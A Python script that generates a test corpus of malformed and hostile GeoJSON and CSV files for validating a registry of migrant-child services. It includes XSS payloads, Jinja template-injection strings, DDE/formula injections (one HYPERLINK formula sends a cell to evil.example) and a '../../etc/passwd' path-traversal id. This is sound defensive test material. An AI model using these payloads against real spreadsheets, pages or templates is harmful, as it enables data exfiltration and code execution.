"""Write the hostile corpus: malformed and hostile registries and CSV imports.

Run from the repository root to regenerate the committed files:

    .venv/bin/python tests/data/hostile/make_corpus.py

Every file is listed in ``manifest.json`` with what a correct validator must do:
``accept`` (valid; payloads are kept as text and escaped downstream), ``reject``
(exit 1 or 2 with one-line reasons) or ``either`` (byte flips and CSV shapes whose
fate depends on where the damage lands; only "no crash, no damage" is required).
The output is deterministic (fixed seed, no timestamps). Oversized files are not
committed: `write_oversized` makes them in a temporary folder at test time.
"""

from __future__ import annotations

import csv
import io
import json
import random
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
REG_DIR = HERE / "registries"
CSV_DIR = HERE / "csv"
MANIFEST = HERE / "manifest.json"
SEED = 20250605

# Injection payloads that must be accepted as text and shown literally everywhere.
PAYLOADS: dict[str, str] = {
    "script_tag": "<script>alert('x')</script>",
    "img_onerror": '<img src=x onerror="alert(1)">',
    "svg_onload": "<svg/onload=alert(1)>",
    "attr_break": "\" onmouseover=\"alert(1)\" x=\"",
    "js_template": "${alert(document.domain)}",
    "backtick": "`;alert(1);`",
    "script_close": "</script><script>alert(1)</script>",
    "jinja_expr": "Casa {{ 7*191 }}",
    "jinja_stmt": "{% if true %}X{% endif %}",
    "jinja_comment": "A{# c #}B",
    "jinja_rce": "{{ lipsum.__globals__['os'].getpid() }}",
    "markdown_link": "[click](javascript:alert(1)) **bold** <b>b</b>",
    "formula_eq": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "formula_plus": "+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "crlf": "line one\r\nline two\rthree",
    "nul_and_controls": "a\x00b\x07c\x1bd",
    "bidi_override": "\u202eevil\u202c \u2066isolate\u2069",
    "zero_width": "Ca\u200bsa\ufeff",
    "html_entity": "&lt;script&gt; &amp;amp; &#x3C;",
    "backslash_quote": "\\\"\\u0000\\'",
    "percent_brace": "100% {x} %s %(name)s {0}",
    "long_text": "<b>" + "x" * 4990,
}

TEXT_FIELDS = ("name", "organization", "city", "address", "hours", "cost", "referral",
               "source", "description")


def feature(fid: str = "mex-tap-1", lon: float = -92.2667, lat: float = 14.9,
            **changes: Any) -> dict[str, Any]:
    """A valid service in Tapachula (MEX); keyword arguments replace properties."""
    props: dict[str, Any] = {
        "id": fid, "name": "Albergue Ejemplo", "organization": "Org de prueba",
        "organization_type": "ngo", "service_types": ["shelter"], "age_min": 12,
        "age_max": 17, "populations": ["unaccompanied"], "country": "MEX",
        "admin1": "MX-CHP", "city": "Tapachula", "address": "Calle Ficticia 1",
        "phones": ["+52 962 000 0000"], "email": "a@example.org",
        "website": "https://example.org", "hours": "24 h", "languages": ["es"],
        "cost": "free", "referral": "", "notifies_authorities": "no",
        "location_precision": "address", "last_verified": "2025-06-01",
        "source": "hostile corpus", "description": "",
    }
    props.update(changes)
    return {"type": "Feature", "geometry": {"type": "Point", "coordinates": [lon, lat]},
            "properties": props}


def collection(*features: Any) -> dict[str, Any]:
    return {"type": "FeatureCollection", "features": list(features)}


def dumps(obj: Any) -> bytes:
    return json.dumps(obj, ensure_ascii=False, indent=1).encode("utf-8")


def valid_registry() -> dict[str, Any]:
    """Three valid services in three countries (the base that damage is done to)."""
    gtm = feature("gtm-gua-1", -90.5133, 14.6349, country="GTM", admin1="GT-GU",
                  city="Ciudad de Guatemala")
    pan = feature("pan-pan-1", -79.5197, 8.9824, country="PAN", admin1="PA-8",
                  city="Panamá", location_precision="confidential")
    return collection(feature(), gtm, pan)


class Corpus:
    """Collects files and their expected outcome, then writes them with a manifest."""

    def __init__(self) -> None:
        self.entries: list[dict[str, str]] = []
        self.files: dict[Path, bytes] = {}

    def add(self, kind: str, slug: str, data: bytes, expect: str, why: str) -> None:
        folder, ext = (REG_DIR, "geojson") if kind == "registry" else (CSV_DIR, "csv")
        name = f"{len(self.entries):03d}-{slug}.{ext}"
        self.files[folder / name] = data
        self.entries.append({"file": f"{folder.name}/{name}", "kind": kind,
                             "expect": expect, "why": why})

    def reg(self, slug: str, data: bytes | dict[str, Any], expect: str, why: str) -> None:
        self.add("registry", slug, data if isinstance(data, bytes) else dumps(data), expect, why)

    def write(self) -> None:
        for folder in (REG_DIR, CSV_DIR):
            shutil.rmtree(folder, ignore_errors=True)
            folder.mkdir(parents=True)
        for path, data in self.files.items():
            path.write_bytes(data)
        MANIFEST.write_text(json.dumps(self.entries, indent=1) + "\n", encoding="utf-8")


# --------------------------------------------------------------------------- registries


def add_encoding_cases(c: Corpus) -> None:
    base = dumps(valid_registry())
    c.reg("valid-baseline", base, "accept", "three valid services (control)")
    c.reg("empty", b"", "reject", "empty file")
    c.reg("whitespace-only", b" \n\t\r\n ", "reject", "only whitespace")
    for frac in (0.0005, 0.1, 0.5, 0.9, 0.999):
        cut = max(1, int(len(base) * frac))
        c.reg(f"truncated-{frac}", base[:cut], "reject", f"truncated after {cut} bytes")
    c.reg("truncated-last-byte", base.rstrip()[:-1], "reject", "missing final brace")
    rng = random.Random(SEED)
    for k in range(15):
        data = bytearray(base)
        for _ in range(1 + k % 3):
            pos = rng.randrange(len(data))
            data[pos] ^= 1 << rng.randrange(8)
        c.reg(f"byte-flip-{k}", bytes(data), "either", "random bit flips")
    text = base.decode("utf-8")
    c.reg("utf8-bom", b"\xef\xbb\xbf" + base, "accept", "UTF-8 with byte-order mark")
    c.reg("utf8-double-bom", b"\xef\xbb\xbf" * 2 + base, "reject", "two byte-order marks")
    c.reg("utf16-le-bom", text.encode("utf-16"), "reject", "UTF-16 (little endian, BOM)")
    c.reg("utf16-be", text.encode("utf-16-be"), "reject", "UTF-16 big endian, no BOM")
    c.reg("utf32", text.encode("utf-32"), "reject", "UTF-32")
    c.reg("latin1", text.encode("latin-1"), "reject", "Latin-1 accents (Panamá)")
    c.reg("cp1252-quotes", dumps(collection(feature(name="Casa “Esperanza”")))
          .decode().encode("cp1252"), "reject", "Windows-1252 smart quotes")
    c.reg("overlong-utf8", base.replace(b'"Albergue', b'"\xc0\xafAlbergue', 1), "reject",
          "overlong UTF-8 encoding of '/'")
    c.reg("binary-garbage", bytes(random.Random(SEED + 1).randrange(256) for _ in range(4096)),
          "reject", "random bytes")
    c.reg("gzip-magic", b"\x1f\x8b\x08\x00" + base[:64], "reject", "a gzip header")


def add_json_syntax_cases(c: Corpus) -> None:
    text = dumps(valid_registry()).decode()
    c.reg("trailing-comma", text.replace("]\n}", "],\n}").replace('"shelter"', '"shelter",', 1)
          .encode(), "reject", "trailing commas")
    c.reg("js-comment", ("// comment\n" + text).encode(), "reject", "a JavaScript comment")
    c.reg("single-quotes", text.replace('"', "'").encode(), "reject", "single-quoted JSON")
    c.reg("extra-data", (text + text).encode(), "reject", "two documents concatenated")
    nan = json.dumps(collection(feature())).replace("-92.2667", "NaN")
    c.reg("coord-nan", nan.encode(), "reject", "NaN longitude")
    for lit in ("Infinity", "-Infinity"):
        c.reg(f"coord-{lit}", json.dumps(collection(feature())).replace("14.9", lit).encode(),
              "reject", f"{lit} latitude")
    for lit in ("1e400", "-1e400"):
        c.reg(f"coord-{lit}", json.dumps(collection(feature())).replace("14.9", lit).encode(),
              "reject", f"{lit} overflows to infinity")
    c.reg("age-1e400", json.dumps(collection(feature())).replace(
          '"age_min": 12', '"age_min": 1e400')
          .encode(), "reject", "1e400 as age")
    digits = "9" * 5000
    c.reg("coord-5000-digits", json.dumps(collection(feature())).replace("14.9", digits).encode(),
          "reject", "an integer of 5000 digits")
    c.reg("age-4000-digits", json.dumps(collection(feature())).replace(
          '"age_min": 12', '"age_min": ' + "9" * 4000).encode(), "reject", "4000-digit age")
    c.reg("coord-4000-digits", json.dumps(collection(feature())).replace(
          "14.9", "9" * 4000).encode(), "reject", "4000-digit latitude (parses, out of range)")
    c.reg("coord-1e308", collection(feature(lat=1e308)), "reject", "latitude 1e308")
    deep = "[" * 100_000 + "]" * 100_000
    c.reg("nesting-100k-top", deep.encode(), "reject", "100,000 nested arrays")
    c.reg("nesting-100k-in-features",
          ('{"type":"FeatureCollection","features":' + deep + "}").encode(), "reject",
          "100,000 nested arrays as features")
    obj_deep = '{"a":' * 100_000 + "1" + "}" * 100_000
    c.reg("nesting-100k-objects-in-name", json.dumps(collection(feature(name="X")))
          .replace('"X"', obj_deep).encode(), "reject", "100,000 nested objects as a name")
    c.reg("nesting-900-in-name", json.dumps(collection(feature(name="X")))
          .replace('"X"', "[" * 900 + "]" * 900).encode(), "reject", "900 nested lists as name")
    dup_key = json.dumps(collection(feature())).replace('"id": "mex-tap-1"',
                                                         '"id": "a b", "id": "mex-tap-1"')
    c.reg("duplicate-json-key", dup_key.encode(), "accept",
          "duplicate JSON key: the last one wins, as in every JSON parser")
    c.reg("lone-surrogate", json.dumps(collection(feature(name="X"))).replace(
          '"X"', '"a\\ud800b"').encode(), "reject", "a lone UTF-16 surrogate in a name")
    c.reg("escaped-nul", json.dumps(collection(feature(name="X"))).replace(
          '"X"', '"a\\u0000b"').encode(), "reject",
          "an escaped NUL character is refused like a raw one (issue 12)")


def add_top_level_cases(c: Corpus) -> None:
    for slug, obj in {
        "top-array": [feature()], "top-string": "FeatureCollection", "top-number": 42,
        "top-null": None, "top-true": True, "top-feature": feature(),
        "no-features": {"type": "FeatureCollection"},
        "features-object": {"type": "FeatureCollection", "features": {"0": feature()}},
        "features-null": {"type": "FeatureCollection", "features": None},
        "features-string": {"type": "FeatureCollection", "features": "[]"},
        "type-lowercase": {"type": "featurecollection", "features": [feature()]},
        "features-of-junk": collection(None, 1, "x", [], {}, True),
        "feature-type-lowercase": collection({**feature(), "type": "feature"}),
        "properties-null": collection({**feature(), "properties": None}),
        "properties-list": collection({**feature(), "properties": [1, 2]}),
        "properties-string": collection({**feature(), "properties": "id=x"}),
        "properties-empty": collection({**feature(), "properties": {}}),
    }.items():
        c.reg(slug, obj, "reject", f"structure: {slug}")
    c.reg("empty-collection", collection(), "accept", "no features at all")
    c.reg("crs-and-bbox", {**collection(feature()), "crs": {"type": "name"},
                           "bbox": [-93, 14, -92, 15]}, "accept", "foreign members")


def add_geometry_cases(c: Corpus) -> None:
    point = {"type": "Point", "coordinates": [-92.2667, 14.9]}
    geoms: dict[str, Any] = {
        "multipoint": {"type": "MultiPoint", "coordinates": [[-92.2667, 14.9]]},
        "linestring": {"type": "LineString", "coordinates": [[-92.2, 14.9], [-92.3, 14.8]]},
        "polygon": {"type": "Polygon", "coordinates": [[[-92, 14], [-92, 15], [-93, 15],
                                                        [-92, 14]]]},
        "geometrycollection": {"type": "GeometryCollection", "geometries": [point]},
        "geometry-string": "POINT(-92.2667 14.9)",
        "geometry-list": [-92.2667, 14.9],
        "geometry-no-type": {"coordinates": [-92.2667, 14.9]},
        "geometry-type-lower": {"type": "point", "coordinates": [-92.2667, 14.9]},
    }
    nested: Any = point
    for _ in range(60):
        nested = {"type": "GeometryCollection", "geometries": [nested, nested]
                  if isinstance(nested, dict) and nested["type"] == "Point" else [nested]}
    geoms["nested-geometrycollection-60"] = nested
    for slug, geom in geoms.items():
        f = feature()
        f["geometry"] = geom
        c.reg(slug, collection(f), "reject", f"geometry: {slug}")
    coords: dict[str, Any] = {
        "strings": ["-92.2667", "14.9"], "null": None, "nulls": [None, None],
        "bools": [True, False], "empty": [], "one": [-92.2667], "object": {"lon": -92.2},
        "nested": [[-92.2667, 14.9]], "lon-200": [200, 14.9], "lat-95": [-92.2667, 95],
        "tapachula-swapped": [14.9, -92.2667], "mixed-string": [-92.2667, "14.9N"],
    }
    for slug, value in coords.items():
        f = feature()
        f["geometry"]["coordinates"] = value
        c.reg(f"coords-{slug}", collection(f), "reject", f"coordinates: {slug}")
    panama_swapped = feature("pan-1", 8.9824, -79.5197, country="PAN", admin1="PA-8")
    c.reg("panama-swapped-in-range", collection(panama_swapped), "reject",
          "Panama City with lon/lat swapped: in range, caught by the country check")
    c.reg("null-island", collection(feature(lon=0, lat=0)), "reject", "0,0 in a MEX service")
    c.reg("wrong-country", collection(feature(country="GTM", admin1="GT-GU")), "reject",
          "Tapachula declared as Guatemala")
    c.reg("coords-3d", collection(feature() | {"geometry": {
        "type": "Point", "coordinates": [-92.2667, 14.9, 120.0]}}), "accept", "altitude")
    f = feature()
    del f["geometry"]
    f["properties"]["location_precision"] = "country_wide"
    c.reg("geometry-member-missing", collection(f), "accept",
          "no geometry member: read as an unlocated (country-wide) service")
    c.reg("geometry-null", collection(country_wide(feature() | {"geometry": None})), "accept",
          "null geometry: a country-wide service")


def country_wide(f: dict[str, Any]) -> dict[str, Any]:
    """`f` with location_precision 'country_wide'."""
    return f | {"properties": f["properties"] | {"location_precision": "country_wide"}}


def add_precision_cases(c: Corpus) -> None:
    """Precision and geometry that disagree (issue 12); last, so numbers above stay put."""
    c.reg("geometry-null-city-precision", collection(feature() | {"geometry": None}), "reject",
          "no point but location_precision 'city': a missing point read as a city")
    c.reg("country-wide-with-point", collection(country_wide(feature())), "reject",
          "location_precision 'country_wide' with a point")


WRONG_VALUES: dict[str, Any] = {
    "number": 42, "bool": True, "object": {"$ne": None}, "list-of-objects": [{"a": 1}],
    "string": "x", "float": 3.5,
}


def wrong_types_for(name: str) -> dict[str, Any]:
    """Two or three type errors for one field (none of which is valid for it)."""
    if name in ("age_min", "age_max"):
        return {"string": "12", "bool": True, "float": 3.5, "negative": -1, "over-25": 26}
    if name in ("service_types", "populations", "phones", "languages"):
        return {"string": "shelter", "object": {"$ne": None}, "list-of-numbers": [1, 2],
                "repeated": ["es", "es"] if name == "languages" else None}
    if name == "website":
        return {"number": 42, "javascript": "javascript:alert(1)",
                "data-url": "data:text/html,<script>alert(1)</script>",
                "no-scheme": "example.org"}
    if name == "email":
        return {"list": ["a@example.org"], "script": "<script>@x.org",
                "two": "a@example.org, b@example.org"}
    if name == "last_verified":
        return {"number": 20250601, "invalid-day": "2025-02-30", "future": "2999-01-01",
                "datetime": "2025-06-01T10:00:00"}
    return {"number": 42, "list": ["x"], "object": {"$ne": None}}


def add_wrong_type_cases(c: Corpus) -> None:
    names = ("id", "name", "organization", "organization_type", "service_types", "age_min",
             "age_max", "populations", "country", "admin1", "city", "address", "phones",
             "email", "website", "hours", "languages", "cost", "referral",
             "notifies_authorities", "location_precision", "last_verified", "source",
             "description")
    for name in names:
        for slug, value in wrong_types_for(name).items():
            if value is None:
                continue
            c.reg(f"wrong-{name}-{slug}", collection(feature(**{name: value})), "reject",
                  f"{name} = {value!r}")
    for name in ("id", "name", "organization", "organization_type", "service_types",
                 "country", "location_precision", "source"):
        f = feature()
        del f["properties"][name]
        c.reg(f"missing-{name}", collection(f), "reject", f"required {name} missing")
    c.reg("age-min-over-max", collection(feature(age_min=17, age_max=3)), "reject",
          "age_min > age_max")
    c.reg("admin1-other-country", collection(feature(admin1="GT-GU")), "reject",
          "admin1 of another country")
    c.reg("unknown-service-type", collection(feature(service_types=["shelter", "<b>x</b>"])),
          "reject", "unknown vocabulary code")
    c.reg("text-5001", collection(feature(name="x" * 5001)), "reject", "name over 5000 chars")
    c.reg("id-129", collection(feature("a" * 129)), "reject", "id over 128 chars")
    c.reg("duplicate-ids", collection(feature(), feature(lon=-92.26)), "reject", "same id twice")
    c.reg("duplicate-ids-many", collection(*[feature("dup") for _ in range(50)]), "reject",
          "50 features with one id")


def add_payload_cases(c: Corpus) -> None:
    for slug, payload in PAYLOADS.items():
        changes: dict[str, Any] = {name: payload for name in TEXT_FIELDS}
        changes["phones"] = [payload, "+52 962 000 0000"]
        if slug == "nul_and_controls":
            c.reg(f"payload-{slug}", collection(feature(**changes)), "reject",
                  "control characters are refused: NUL broke PostgreSQL on apply (issue 12)")
            continue
        c.reg(f"payload-{slug}", collection(feature(**changes)), "accept",
              f"{slug} payload in every text field: accepted as text, escaped downstream")
    conf = feature(location_precision="confidential",
                   **{name: PAYLOADS["img_onerror"] for name in TEXT_FIELDS})
    c.reg("payload-confidential", collection(conf), "accept", "payload in a confidential row")
    c.reg("payload-unknown-fields", collection(feature() | {"properties": {
        **feature()["properties"], "__proto__": {"x": 1}, "constructor": "<script>",
        "<img src=x onerror=alert(1)>": PAYLOADS["jinja_rce"]}}), "accept",
        "payload field names: ignored with warnings")
    for slug, value in {"id-script": "<script>", "id-jinja": "{{7*191}}",
                        "id-path": "../../etc/passwd"}.items():
        c.reg(f"payload-{slug}", collection(feature(value)), "reject", f"id {value!r}")


# --------------------------------------------------------------------------- CSV imports

CSV_HEADER = ("name", "organization", "country_iso3", "admin1", "city", "address", "phone",
              "email", "website", "service_types", "age_groups", "populations", "languages",
              "hours", "location_precision", "lat", "lon", "source_url", "source_note")
CSV_TEXT = ("name", "organization", "address", "phone", "hours", "source_note")


def csv_row(**changes: str) -> dict[str, str]:
    row = {
        "name": "Albergue Ejemplo", "organization": "Org de prueba", "country_iso3": "MEX",
        "admin1": "Chiapas", "city": "Tapachula", "address": "Calle Ficticia 1",
        "phone": "+52 962 000 0000", "email": "a@example.org",
        "website": "https://example.org", "service_types": "shelter", "age_groups": "12-17",
        "populations": "unaccompanied", "languages": "es", "hours": "24 h",
        "location_precision": "address", "lat": "14.9", "lon": "-92.2667",
        "source_url": "https://example.org/source", "source_note": "hostile corpus",
    }
    row.update(changes)
    return row


def csv_bytes(rows: list[dict[str, str]], header: tuple[str, ...] = CSV_HEADER,
              delimiter: str = ",", encoding: str = "utf-8") -> bytes:
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=list(header), delimiter=delimiter,
                            extrasaction="ignore", lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return buf.getvalue().encode(encoding)


def add_csv_cases(c: Corpus) -> None:
    def add(slug: str, data: bytes, expect: str, why: str) -> None:
        c.add("csv", slug, data, expect, why)

    base = csv_bytes([csv_row(), csv_row(name="Casa Dos", lat="14.91", lon="-92.26")])
    add("valid-baseline", base, "accept", "two valid rows (control)")
    add("empty", b"", "reject", "empty file")
    add("header-only", csv_bytes([]), "either", "no rows")
    add("binary-garbage", bytes(random.Random(SEED + 2).randrange(256) for _ in range(4096)),
        "reject", "random bytes")
    add("utf8-bom", b"\xef\xbb\xbf" + base, "accept", "UTF-8 with BOM (Excel)")
    accented = [csv_row(name="Niñez Panamá", city="Tapachula")]
    add("utf16", csv_bytes(accented, encoding="utf-16"), "either", "UTF-16 (Excel 'Unicode')")
    add("latin1", csv_bytes(accented, encoding="latin-1"), "either", "Latin-1 accents")
    add("cp1252", csv_bytes([csv_row(name="Casa “Esperanza”")], encoding="cp1252"), "either",
        "Windows-1252 smart quotes")
    add("semicolon-delimiter", csv_bytes([csv_row()], delimiter=";"), "either",
        "semicolon-separated (European Excel)")
    add("tab-delimiter", csv_bytes([csv_row()], delimiter="\t"), "either", "tab-separated")
    add("missing-name-column", csv_bytes([csv_row()], header=CSV_HEADER[1:]), "either",
        "no name column")
    add("missing-coords-columns", csv_bytes([csv_row()], header=CSV_HEADER[:-4]), "either",
        "no lat/lon columns")
    add("unknown-columns-only", b"foo,bar\r\n1,2\r\n", "reject", "no known column")
    add("duplicate-header", base.replace(b"address,", b"name,", 1), "either",
        "a column named twice")
    add("ragged-rows", base + b"x,y\r\n" + b"a," * 40 + b"\r\n", "either", "short/long rows")
    add("unterminated-quote", base + b'"Casa sin fin,MEX\r\n', "either", "an open quote")
    add("nul-bytes", base.replace(b"Albergue", b"Alb\x00ergue", 1), "either", "NUL in a cell")
    add("huge-cell", csv_bytes([csv_row(description="x", source_note="x" * 300_000)]),
        "either", "a 300 kB cell (above csv's default field limit)")
    add("json-as-csv", dumps(valid_registry()), "either", "a GeoJSON file given as CSV")
    add("newlines-only", b"\r\n\n\r\n", "either", "blank lines only")
    add("mixed-line-endings", base.replace(b"\r\n", b"\n", 1).replace(b"\r\n", b"\r"),
        "either", "CR, LF and CRLF line endings")
    for slug, (lat, lon) in {
        "nan": ("NaN", "NaN"), "inf": ("inf", "-inf"), "1e400": ("1e400", "-92"),
        "strings": ("north", "west"), "swapped-tapachula": ("-92.2667", "14.9"),
        "out-of-range": ("95", "-200"), "5000-digits": ("9" * 5000, "-92"),
        "comma-decimal": ("14,9", "-92,2667"), "null-island": ("0", "0"),
    }.items():
        add(f"coords-{slug}", csv_bytes([csv_row(lat=lat, lon=lon)]), "either",
            f"lat={lat[:20]!r} lon={lon[:20]!r}")
    formulas = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1",
                "=HYPERLINK(\"http://evil.example\",\"x\")", "'=already quoted")
    for k, formula in enumerate(formulas):
        row = csv_row(**{name: formula for name in CSV_TEXT})
        add(f"formula-{k}", csv_bytes([row]), "either", f"formula {formula!r} in text cells")
    for slug, payload in PAYLOADS.items():
        row = csv_row(**{name: payload for name in CSV_TEXT})
        add(f"payload-{slug}", csv_bytes([row]), "either", f"{slug} payload in text cells")
    add("website-javascript", csv_bytes([csv_row(website="javascript:alert(1)")]), "either",
        "a javascript: website (must not be imported as a link)")
    add("unknown-country", csv_bytes([csv_row(country_iso3="XXX")]), "either", "country XXX")
    add("unknown-service", csv_bytes([csv_row(service_types="<b>spa</b>")]), "either",
        "unknown service type")
    add("many-empty-rows", base + b",,,,,,,,,,,,,,,,,,\r\n" * 500, "either", "500 empty rows")


# --------------------------------------------------------------------------- oversized


def write_oversized(folder: Path, limit_bytes: int) -> list[Path]:
    """Files one byte over `limit_bytes` (sparse: instant and cheap on disk)."""
    folder.mkdir(parents=True, exist_ok=True)
    made = []
    for name, head in (("oversized.geojson", b'{"type":"FeatureCollection","features":['),
                       ("oversized.csv", b"name,organization\r\n")):
        path = folder / name
        with open(path, "wb") as handle:
            handle.write(head)
            handle.truncate(limit_bytes + 1)
        made.append(path)
    return made


BUILDERS: tuple[Callable[[Corpus], None], ...] = (
    add_encoding_cases, add_json_syntax_cases, add_top_level_cases, add_geometry_cases,
    add_wrong_type_cases, add_payload_cases, add_csv_cases, add_precision_cases,
)


def build() -> Corpus:
    corpus = Corpus()
    for builder in BUILDERS:
        builder(corpus)
    return corpus


def main() -> None:
    corpus = build()
    corpus.write()
    kinds = [e["kind"] for e in corpus.entries]
    print(f"wrote {kinds.count('registry')} registries and {kinds.count('csv')} CSV files "
          f"to {HERE}")


if __name__ == "__main__":
    main()
